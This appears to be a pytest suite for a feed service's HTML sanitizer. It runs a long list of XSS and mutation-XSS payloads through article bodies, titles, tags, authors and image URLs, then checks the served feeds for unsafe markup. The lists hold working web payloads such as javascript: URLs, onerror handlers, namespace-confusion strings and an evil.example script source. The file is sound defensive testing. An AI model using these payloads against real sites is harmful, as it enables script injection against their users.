"""A corpus of XSS and mutation-XSS vectors in every place an article can carry one, checked on
what is served: each HTML fragment parsed as a browser would (html5lib) and walked."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from flask.testing import FlaskClient

from feedsvc.model import FEED_FORMATS
from feedsvc.sanitize import xml_safe

from .checks import (
    SAFE_SCHEMES,
    check_document,
    html_text,
    read_feed,
    served_html,
    served_urls,
    unsafe_html,
    url_scheme,
)
from .factories import Store, make_app

# "LEAK" marks text inside elements that must go with their content (script, style...): it
# must never reach a reader as prose.
VECTORS = [
    "<script>LEAK alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<style>LEAK body{display:none}</style>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="x` `<script>LEAK</script>"` `>',
    "<img/src=x/onerror=alert(1)>",
    '<img src="jav&#x09;ascript:alert(1)">',
    '<img srcset="javascript:alert(1) 1x, https://ok.example/a.png 2x">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href=" \x01\x02javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    "[md link](javascript:alert(1))",
    "[md link](javascript&#58;alert(1))",
    "[md link](<javascript:alert(1)>)",
    "![md image](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[ref link][r]\n\n[r]: javascript:alert(1)",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="behavior:url(x.htc)">x</div>',
    '<p onclick="alert(1)" onmouseover=alert(2) ONLOAD=alert(3)>x</p>',
    "<svg onload=alert(1)><script>LEAK</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><td><img src=x onerror=alert(1)></td></table>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><script>LEAK</script></textarea>",
    "<title><script>LEAK</script></title>",
    "<plaintext><script>LEAK</script>",
    '<iframe srcdoc="<script>alert(1)</script>">LEAK</iframe>',
    '<object data="javascript:alert(1)">LEAK</object>',
    '<embed src="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">x</button>',
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<template><script>LEAK</script></template>",
    "<!--><script>LEAK</script>-->",
    "<!-- --!><script>LEAK</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",  # a bogus comment, then text: no script
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    '<a href="https://ok.example/" target=_blank rel=opener>ok</a>',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    '<q cite="vbscript:x">q</q>',
    '<img src="https://ok.example/a.png" width="1" height="1" usemap="#m">',
    '<a href="//evil.example/%0ajavascript:alert(1)">x</a>',
    '<a href="\\\\evil.example\\x">x</a>',
    "\u202e<script>LEAK</script>\u202c",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "<<script>script>LEAK<</script>/script>",
    '<div id="x"><a href="#x" onclick="alert(1)">x</a></div>',
    "<dialog open><form method=dialog><button>LEAK</button></form></dialog>",
]
IMAGE_URLS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " java\tscript:alert(1)",
    "data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+",
    "vbscript:x",
    "//evil.example/x.png",
    "jav&#x61;script:alert(1)",
    "https://ok.example/a.png?<script>LEAK</script>",
    'https://ok.example/a.png" onerror="alert(1)',
]


def yaml_string(value: str) -> str:
    # A JSON string is a YAML double-quoted scalar (control characters escaped as \u00XX).
    return json.dumps(value, ensure_ascii=False)


def check_served(client: FlaskClient, scopes: tuple[str, ...] = ("all", "technology")) -> int:
    """Every feed in every format: well-formed, nothing unsafe in its HTML, no leaked script
    text, and every URL of the document itself http(s). Returns how many items were read."""
    items = 0
    for scope in scopes:
        for fmt in FEED_FORMATS:
            response = client.get(f"/feeds/{scope}.{fmt}")
            assert response.status_code == 200
            items += len(check_document(response.data, fmt))
            for fragment in served_html(fmt, response.data):
                assert unsafe_html(fragment) == [], fragment
                assert "LEAK" not in html_text(fragment), fragment
            for url in served_urls(fmt, response.data):
                assert url_scheme(url) in SAFE_SCHEMES, url
    return items


@pytest.mark.parametrize("where", ["body", "summary"])
def test_vectors_in_bodies_and_summaries_are_served_harmless(
    tmp_path: Path, state_dir: Path, where: str
) -> None:
    store = Store(tmp_path / "store", items_per_feed=len(VECTORS))
    for n, vector in enumerate(VECTORS):
        fields = {"summary": yaml_string(vector)} if where == "summary" else {}
        store.add(f"v{n}.md", id=f"v{n}", body=f"Before.\n\n{vector}\n\nAfter.", **fields)
    client = make_app(store, state_dir).test_client()
    assert check_served(client) == 2 * len(FEED_FORMATS) * len(VECTORS)


@pytest.mark.parametrize("where", ["title", "tags", "author"])
def test_vectors_in_titles_tags_and_authors_stay_text(
    store: Store, state_dir: Path, where: str
) -> None:
    for n, vector in enumerate(VECTORS):
        value = f"[{yaml_string(vector)}]" if where == "tags" else yaml_string(vector)
        fields = {where: value}
        if where != "title":
            fields["title"] = yaml_string(f"Plain {n}")
        store.add(f"v{n}.md", id=f"v{n}", **fields)
    client = make_app(store, state_dir).test_client()
    check_served(client)
    # They reach readers as text: the same characters, escaped by the XML, never as markup.
    entries = read_feed(client.get("/feeds/all.atom").data).entries
    served = {e.id.rsplit(":", 1)[1]: e for e in entries}
    for n, vector in enumerate(VECTORS):
        entry = served.get(f"v{n}")
        if entry is None:
            continue  # nothing left once XML-forbidden characters and spaces went
        if where == "title":
            assert entry.title_detail.type == "text/plain"
        elif where == "tags":
            assert [t.term for t in entry.tags][1:] == [" ".join(xml_safe(vector).split())]


@pytest.mark.parametrize("url", IMAGE_URLS)
def test_image_urls_are_http_or_the_file_is_rejected(
    store: Store, state_dir: Path, url: str
) -> None:
    store.add("good.md", id="good")
    store.add("img.md", id="img", image=f"{{url: {yaml_string(url)}, type: image/png, length: 1}}")
    app = make_app(store, state_dir)
    check_served(app.test_client())
    problems = {p.path: p.reason for p in app.extensions["feedsvc"].problems}
    if "img.md" in problems:
        assert problems["img.md"].startswith("image: url ")


@pytest.mark.parametrize(
    ("fragment", "problem"),
    [
        ("<script>x</script>", "<script> element"),
        ("<svg><a xlink:href='javascript:x'>y</a></svg>", "<svg> element"),
        ("<a href='java\tscript:x'>y</a>", "javascript: URL in href of <a>"),
        ("<a href='  &#x6A;avascript:x'>y</a>", "javascript: URL in href of <a>"),
        ("<a href='\x01javascript&colon;x'>y</a>", "javascript: URL in href of <a>"),
        ("<img srcset='https://ok.example/a 1x, data:x 2x'>", "data: URL in srcset of <img>"),
        ("<p ONCLICK=x>", "onclick attribute on <p>"),
        ("<p style='x'>", "style attribute on <p>"),
        ("<noscript><p title='</noscript><img src=x onerror=y>'>", "<noscript> element"),
    ],
)
def test_the_walker_finds_what_it_must(fragment: str, problem: str) -> None:
    # The checks above are only as good as this: unsanitized vectors must be caught.
    assert problem in unsafe_html(fragment)
    assert "LEAK" in html_text("<p>a</p><script>LEAK</script>")
